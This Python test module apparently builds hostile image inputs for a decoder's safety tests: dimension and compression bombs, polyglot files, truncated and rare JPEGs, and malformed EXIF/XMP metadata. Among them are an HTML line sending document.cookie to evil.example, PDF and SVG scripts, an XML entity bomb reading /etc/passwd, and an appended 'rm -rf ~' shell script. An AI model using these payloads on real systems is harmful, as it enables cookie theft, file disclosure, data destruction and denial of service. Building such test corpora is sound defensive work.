"""Pictures that somebody might send instead of a camera frame, made here byte by byte. None is larger than 64 kB.

REFUSED: no decoder may see them. READ: true pictures with something odd *about* them, of which nothing may be looked at
but the picture. BROKEN: plain by their outline, so that only the decoder can tell; it must say so and nothing worse.
"""

import gzip
import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from tests.affect.faces import portrait, smiling_frame

FRAME = smiling_frame()
START, END = b"\xff\xd8", b"\xff\xd9"
HTML = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b'<!ENTITY file SYSTEM "file:///etc/passwd">]><svg><text>&j;&file;</text></svg>'
)


def saved(kind: str, mode: str = "RGB", **how: object) -> bytes:
    kept = BytesIO()
    portrait().convert(mode).save(kept, kind, **how)  # type: ignore[arg-type]
    return kept.getvalue()


def animated(kind: str) -> bytes:
    kept = BytesIO()
    pictures = [Image.new("RGB", (32, 24), (40 * number, 0, 0)) for number in range(5)]
    pictures[0].save(kept, kind, save_all=True, append_images=pictures[1:])
    return kept.getvalue()


def zipped(name: str, content: bytes) -> bytes:
    kept = BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return kept.getvalue()


def segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def before_all(*segments: bytes) -> bytes:
    """The frame with segments right behind its start."""
    return START + b"".join(segments) + FRAME[2:]


def with_frame(marker: int = 0xC0, bits: int = 8, height: int = 240, width: int = 320, colours: int = 3) -> bytes:
    """The frame with another header: its kind, bits, size and number of colours."""
    at = FRAME.index(b"\xff\xc0")
    rest = FRAME[at + 10 : at + 10 + 3 * min(colours, 3)] + b"\4\x11\0" * max(0, colours - 3)
    return FRAME[:at] + segment(marker, struct.pack(">BHHB", bits, height, width, colours) + rest) + FRAME[at + 19 :]


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    head = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = (b"IDAT", zlib.compress(bytes(50_000)))
    parts = (
        struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        for name, content in (head, *chunks, body, (b"IEND", b""))
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def exif(*entries: tuple[int, int, int, bytes], following: int = 0) -> bytes:
    """An EXIF segment; an entry is a tag, a type, a count, and four bytes of value or offset."""
    lines = b"".join(struct.pack("<HHI", tag, kind, count) + value for tag, kind, count, value in entries)
    head = b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + lines + struct.pack("<I", following)
    return segment(0xE1, b"Exif\0\0" + head)


def many_scans() -> bytes:
    """A progressive picture with thousands of scans, each of which a decoder walks through whole."""
    whole = saved("JPEG", progressive=True)
    scan = whole.rindex(b"\xff\xda")
    last = whole[scan:-2]
    return whole[:-2] + last * ((60_000 - len(whole)) // len(last)) + END


BOMBS = {
    "65,535 × 65,535 by its header": with_frame(height=65_535, width=65_535),
    "20,000 × 20,000 by its header": with_frame(height=20_000, width=20_000),
    "one line of 65,535": with_frame(height=1, width=65_535),
    "one column of 65,535": with_frame(height=65_535, width=1),
    "a pixel too wide": with_frame(width=641),
    "no height, to be told later": with_frame(height=0)[:-2] + segment(0xDC, b"\xff\xff") + END,
    "no width": with_frame(width=0),
    "a second, huge header after the first": FRAME[: FRAME.index(b"\xff\xc0")]
    + segment(0xC0, struct.pack(">BHHB", 8, 240, 320, 1) + b"\1\x11\0")
    + with_frame(height=60_000, width=60_000)[FRAME.index(b"\xff\xc0") :],
    "a PNG of 50,000 × 50,000": png(50_000, 50_000),
    "a GIF of 65,535 × 65,535": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0" + bytes(6) + b";",
    "a BMP of 30,000 × 30,000": b"BM" + struct.pack("<IIIIiiHH", 54, 0, 54, 40, 30_000, 30_000, 1, 24) + bytes(24),
    "a progressive picture of thousands of scans": many_scans(),
    "thirteen thousand empty comments": before_all(b"\xff\xfe\0\2" * 13_000),
    "ten megabytes": FRAME.ljust(10 * 2**20, b"\0") + END,
}

POLYGLOTS = {
    "a ZIP behind it": FRAME + zipped("a.html", HTML),
    "a ZIP behind it, and an end": FRAME + zipped("a.html", HTML) + END,
    "HTML behind it": FRAME + HTML,
    "HTML behind it, and an end": FRAME + HTML + END,
    "a PDF behind it": FRAME + PDF,
    "a PDF behind it, and an end": FRAME + PDF + END,
    "a shell script behind it, and an end": FRAME + b"\n#!/bin/sh\nrm -rf ~\n" + END,
    "another JPEG behind it": FRAME + FRAME,
    "a second picture, as in an MPO": animated("MPO"),
    "a PDF before it": PDF + FRAME,
    "a ZIP before it": zipped("a.html", HTML) + FRAME,
    "a GIF's first bytes before it": b"GIF89a/*" + FRAME,
    "a program's first bytes before it": b"MZ\x90\0" + FRAME,
    "a line feed before it": b"\n" + FRAME,
    "noughts behind it": FRAME + bytes(100),
    "an end of its own within the scan": FRAME[:3_000] + END + FRAME[3_000:],
}

TRUNCATED = {
    **{f"cut after {length:,} bytes": FRAME[:length] for length in (1, 2, 3, 4, 20, 100, 400, 3_000, len(FRAME) - 1)},
    **{
        f"cut after {length:,} bytes and given an end": FRAME[:length] + END
        for length in (3, 4, 20, 100, 170, 400, FRAME.index(b"\xff\xda") + 6)
    },
    "nothing": b"",
    "noughts": bytes(5_000),
}

OTHER_KINDS = {
    "an animated GIF": animated("GIF"),
    "an animated WebP": animated("WEBP"),
    "an animated PNG": animated("PNG"),
    "a PNG": saved("PNG"),
    "a PNG with a colour profile of bombs": png(32, 24, (b"iCCP", b"p\0\0" + zlib.compress(bytes(9_000_000)))),
    "a GIF": saved("GIF"),
    "a WebP": saved("WEBP"),
    "a TIFF": saved("TIFF", compression="tiff_jpeg"),
    "a BMP": saved("BMP", "1"),
    "a PSD": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 300_000, 300_000, 8, 3) + bytes(40),
    "an icon": saved("ICO"),
    "a JPEG 2000": saved("JPEG2000"),
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    "a PNG called JPEG by its first bytes": b"\xff\xd8\xff" + saved("PNG")[3:30_000] + END,
    "an SVG with a script": SVG,
    "an SVG of entities": ENTITIES,
    "a compressed SVG": gzip.compress(SVG),
    "an SVG called JPEG by its first and last bytes": b"\xff\xd8\xff" + SVG + END,
}

RARE_JPEGS = {
    "progressive": saved("JPEG", progressive=True),
    "four colours, for print": saved("JPEG", "CMYK"),
    "12 bits": with_frame(0xC1, bits=12),
    "16 bits": with_frame(bits=16),
    "lossless": with_frame(0xC3),
    "hierarchical": with_frame(0xDE),
    "arithmetic-coded": with_frame(0xC9),
    "arithmetic-coded and progressive": with_frame(0xCA),
    "two colours": with_frame(colours=2),
    "no colours": with_frame(colours=0),
    "255 colours": with_frame(colours=255),
    "a header that says too little": START + segment(0xC0, b"\x08\0\xf0") + FRAME[FRAME.index(b"\xff\xda") :],
    "a scan before any header": START + FRAME[FRAME.index(b"\xff\xda") :],
    "a start and an end": START + END,
    "a part longer than the file": before_all(b"\xff\xfe\xff\xff"),
    "a part of no length": before_all(b"\xff\xfe\0\0"),
    "EXIF longer than the file": before_all(b"\xff\xe1\xff\xfeExif\0\0"),
    "a start within": before_all(START),
}

REFUSED = {**BOMBS, **POLYGLOTS, **TRUNCATED, **OTHER_KINDS, **RARE_JPEGS}

READ = {
    "EXIF that turns it on its side": before_all(exif((0x0112, 3, 1, b"\6\0\0\0"))),
    "EXIF with an orientation that there is not": before_all(exif((0x0112, 3, 1, b"\xff\xff\0\0"))),
    "EXIF with a place on earth": before_all(exif((0x8825, 4, 1, b"\x1a\0\0\0"), (1, 2, 2, b"N\0\0\0"))),
    "EXIF of four thousand million values": before_all(exif((0x010E, 2, 0xFFFF_FFFF, b"\x08\0\0\0"))),
    "EXIF whose value lies past its end": before_all(exif((0x010F, 2, 100, b"\xff\xff\xff\x7f"))),
    "EXIF that leads back to itself": before_all(exif((0x8769, 4, 1, b"\x08\0\0\0"), following=8)),
    "EXIF of forty kilobytes": before_all(segment(0xE1, b"Exif\0\0" + b"A" * 40_000)),
    "EXIF without anything": before_all(segment(0xE1, b"Exif\0\0")),
    "EXIF with a huge thumbnail": before_all(segment(0xE1, b"Exif\0\0II*\0" + with_frame(height=65_535)[:9_000])),
    "XMP of entities": before_all(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + ENTITIES)),
    "a colour profile cut short": before_all(segment(0xE2, b"ICC_PROFILE\0\1\xff" + bytes(40))),
    "an index of pictures that are not there": before_all(segment(0xE2, b"MPF\0II*\0\x08\0\0\0\xff\xff")),
    "Photoshop's notes of four gigabytes": before_all(segment(0xED, b"Photoshop 3.0\x008BIM\4\4\0\0\xff\xff\xff\xff")),
    "a thumbnail that ends before the picture": before_all(segment(0xE0, b"JFXX\0\x10" + START + bytes(90) + END)),
    "a thumbnail of 255 × 255 that is not there": before_all(segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\xff\xff")),
    "a comment of forty kilobytes": before_all(segment(0xFE, b" " * 40_000)),
    "HTML in a comment": before_all(segment(0xFE, HTML)),
    "a script in its first part": before_all(segment(0xE0, b"/*" + b" " * 90 + b"*/=alert(1)/*")),
    "a ZIP in a comment": before_all(segment(0xFE, zipped("a.html", HTML))),
    "Adobe's mark, too short": before_all(segment(0xEE, b"Adobe")),
    "forty kilobytes of filling": START + b"\xff" * 40_000 + FRAME[2:],
    "a restart due every 65,535 blocks": before_all(segment(0xDD, b"\xff\xff")),
}

BROKEN = {
    "no tables for its steps": FRAME[: FRAME.index(b"\xff\xdb")] + FRAME[FRAME.index(b"\xff\xc0") :],
    "a table with more codes than there can be": before_all(segment(0xC4, b"\0" + b"\xff" * 16 + bytes(255 * 16))),
    "colours sampled fifteen times": FRAME.replace(b"\1\x22\0", b"\1\xff\0", 1),
    "a restart interval of six bytes": before_all(segment(0xDD, b"\1\1\1\1")),
}
